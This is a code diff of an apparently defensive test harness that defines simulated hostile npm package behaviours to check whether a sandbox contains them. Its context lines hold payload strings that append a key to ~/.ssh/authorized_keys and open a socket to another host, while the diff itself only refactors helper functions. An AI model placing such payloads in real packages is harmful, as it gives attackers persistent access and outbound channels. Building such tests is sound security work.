@@ -3,7 +3,7 @@
 import { createHash } from "node:crypto";
 import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join, resolve } from "node:path";
-import { AUTHORIZED_KEYS, COMMON_ATTACKS, keyHarm } from "./lib/attacks.ts";
+import { emptyKeys, COMMON_ATTACKS, keyHarm, reachedListener } from "./lib/attacks.ts";
 import type { Attack, FreshRun, Site, Workload } from "./lib/workload.ts";
 
 const SCRIPT: string = join(import.meta.dirname, "npm/work.sh");
@@ -109,7 +109,7 @@ const SHADOW: Attack = {
 };
 const KEYS: Attack = {
   name: "a package writes ~/.ssh/authorized_keys",
-  ...(AUTHORIZED_KEYS.arrange === undefined ? {} : { arrange: AUTHORIZED_KEYS.arrange }),
+  arrange: emptyKeys,
   inject: () =>
     hostile(
       `require("node:fs").appendFileSync(process.env.HOME + "/.ssh/authorized_keys", "${KEY}\\n")`,
@@ -131,7 +131,7 @@ const HOST: Attack = {
     hostile(
       `const socket = require("node:net").connect(${port}, "${otherHost}", () => socket.end("HARM")); socket.on("error", () => undefined)`,
     ),
-  harm: (_run, { heard }) => (heard.length > 0 ? "the listener was reached" : undefined),
+  harm: reachedListener,
 };
 
 export const npm: Workload = {
